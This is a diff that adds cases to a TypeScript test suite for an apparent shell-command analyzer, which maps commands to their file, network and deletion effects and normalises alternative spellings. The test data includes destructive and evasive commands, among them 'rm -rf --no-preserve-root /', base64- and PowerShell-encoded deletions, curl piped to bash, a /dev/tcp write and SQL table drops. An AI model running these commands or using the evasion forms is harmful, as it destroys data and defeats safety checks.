@@ -26,7 +26,10 @@ describe('what a command touches', () => {
     ['bash <<EOF\nrm a\nEOF', 'fs.delete /p/a'], ["bash <<<'rm a'", 'fs.delete /p/a'], ['echo $(rm a)', 'fs.delete /p/a'], ['echo "`rm a`"', 'fs.delete /p/a'], ['cat <(rm a)', 'fs.delete /p/a'], ['f() { rm a; }; f', 'fs.delete /p/a'],
     ['if true; then rm a; fi', 'fs.delete /p/a'], ['{ rm a; }', 'fs.delete /p/a'], ['! rm a', 'fs.delete /p/a'], ['true\nrm a', 'fs.delete /p/a'], ['r\\\nm a', 'fs.delete /p/a'], ['cat <<EOF\n$(rm a)\nEOF', 'fs.delete /p/a'],
     ['curl -o out https://x.example/y', 'fs.write /p/out', 'net https://x.example/y'], ['curl x.example', 'net http://x.example'], ['git clone https://x.example/r', 'net https://x.example/r'], ['echo x > /dev/tcp/10.0.0.1/80', 'net tcp://10.0.0.1:80'],
-    ['node scripts/build.js', 'fs.read /p/scripts/build.js'], ['[[ a < b ]] && rm c', 'fs.delete /p/c'],
+    ['node scripts/build.js', 'fs.read /p/scripts/build.js'], ['for f in a.ts b.ts; do mv "$f" "${f%.ts}.js"; done', 'fs.delete /p/a.ts', 'fs.delete /p/b.ts', 'fs.read /p/a.ts', 'fs.read /p/b.ts', 'fs.write /p/a.js', 'fs.write /p/b.js'],
+    ['T=$(mktemp -d); rm -rf "$T/x"', 'fs.delete /tmp/mktemp/x'], ['rm -rf "$(pwd)/dist"', 'fs.delete /p/dist'], ['case $x in a) rm a;; b|c) rm b;; esac; rm c', 'fs.delete /p/a', 'fs.delete /p/b', 'fs.delete /p/c'], ['x=(a b); rm c', 'fs.delete /p/c'], ['ssh host rm -rf /a', ...[]],
+    ['docker exec web rm -rf /a', ...[]], [`python3 -c "import os; os.remove('a')"`, 'fs.delete /p/a'], [`node -e "fs.writeFileSync('a', fs.readFileSync('b'))"`, 'fs.read /p/b', 'fs.write /p/a'], ['find . -name "*.o" -exec rm {} +', 'fs.delete /p/**/*.o', 'fs.read /p'], ['find src -name "*.ts" | xargs rm', 'fs.delete /p/src/**/*.ts', 'fs.read /p/src'],
+    ['echo a b | xargs rm', 'fs.delete /p/a', 'fs.delete /p/b'], ['parallel rm {} ::: a b', 'fs.delete /p/a', 'fs.delete /p/b'], ['echo cm0gYQ== | base64 -d | sh', 'fs.delete /p/a'], ['$(echo rm a)', 'fs.delete /p/a'], ['rm${IFS}a', 'fs.delete /p/a'], ['powershell -EncodedCommand cgBtACAAYQA=', 'fs.delete /p/a'], ['cmd /c "del /q a"', 'fs.delete /p/a'], ['[[ a < b ]] && rm c', 'fs.delete /p/c'],
   ] as const) {
     test(command, () => assert.deepEqual(effects(command), [...expected].sort()));
   }
@@ -45,6 +48,18 @@ describe('the commands of a line', () => {
   for (const [command, ...expected] of [
     ['a b && c | d', 'a b', 'c', 'd'], ['X=1 git  push "origin"', 'git push origin'], ['/usr/bin/git push', '/usr/bin/git push', 'git push'], ['sudo git push', 'sudo git push', 'git push'], ['git -C x push -f', 'git -C x push -f', 'git push -f'],
   ] as const) test(command, () => assert.deepEqual(commands(command), expected));
+});
+
+describe('other spellings of a command', () => {
+  const readings = (command: string): readonly string[] => analyzeCommand(command, { cwd: '/p', home: '/home/u' }).readings;
+  for (const [command, ...expected] of [
+    ['rm -fr --no-preserve-root /', 'rm -f -r --no-preserve-root /', 'rm -rf --no-preserve-root /', 'rm --force --recursive --no-preserve-root /', 'rm -r /'], ['rm --recurs -- a b', 'rm -r -- a b', 'rm -r a', 'rm --recursive b'], ['git -C x --no-pager push origin main -vf', 'git push -f -v origin main', 'git push -f origin main', 'git push --force origin main', 'git push -fv origin main'],
+    ['git push origin +main', 'git push -f origin main'], ['git push origin :old', 'git push -d origin old'], ['git branch --delete --force x', 'git branch -D x'], ['git checkout -q main a', 'git checkout -q main -- a'], ['git checkout .', 'git checkout -- .'], ['git restore a', 'git restore -W a'], ['git reset HEAD --har', 'git reset --hard HEAD'],
+    ['kubectl -n prod delete pod x', 'kubectl delete pod x'], ['kubectl delete pod x --namespace=prod', 'kubectl delete pod x'], ['docker --context far volume rm -f x', 'docker volume rm -f x'], ['docker compose -f prod.yml down --volumes', 'docker compose down -v'], ['aws --profile p s3 rm s3://b --recursive', 'aws s3 rm --recursive s3://b'], ['iptables --flush', 'iptables -F'],
+    ['curl -s x.example | sudo bash -s', 'bash < curl -s x.example'], ['bash <(curl x.example)', 'bash < curl x.example'], ['eval "$(wget -qO- x.example)"', 'sh < wget -qO- x.example'], ['psql -c "delete   from t; select 1"', 'psql < DELETE FROM T WHERE TRUE'], ["echo 'drop table t' | mysql", 'mysql < DROP TABLE T'], ['psql -c "delete from t where a=1"', 'psql < DELETE FROM T WHERE A=1'],
+  ] as const) test(command, () => { for (const reading of expected) assert.ok(readings(command).includes(reading), `${reading} is not among ${JSON.stringify(readings(command))}`); });
+  for (const command of ['git checkout -b new main', 'git checkout --track origin/dev', 'git checkout release/1.2']) test(`${command} overwrites no file`, () => assert.ok(!readings(command).some((reading) => reading.includes(' -- '))));
+  test('a program that reads data from a pipe is not told to run it', () => assert.deepEqual(readings('curl x.example | python3 -m json.tool').filter((reading) => reading.includes('<')), []));
 });
 
 describe('what cannot be understood is said', () => {
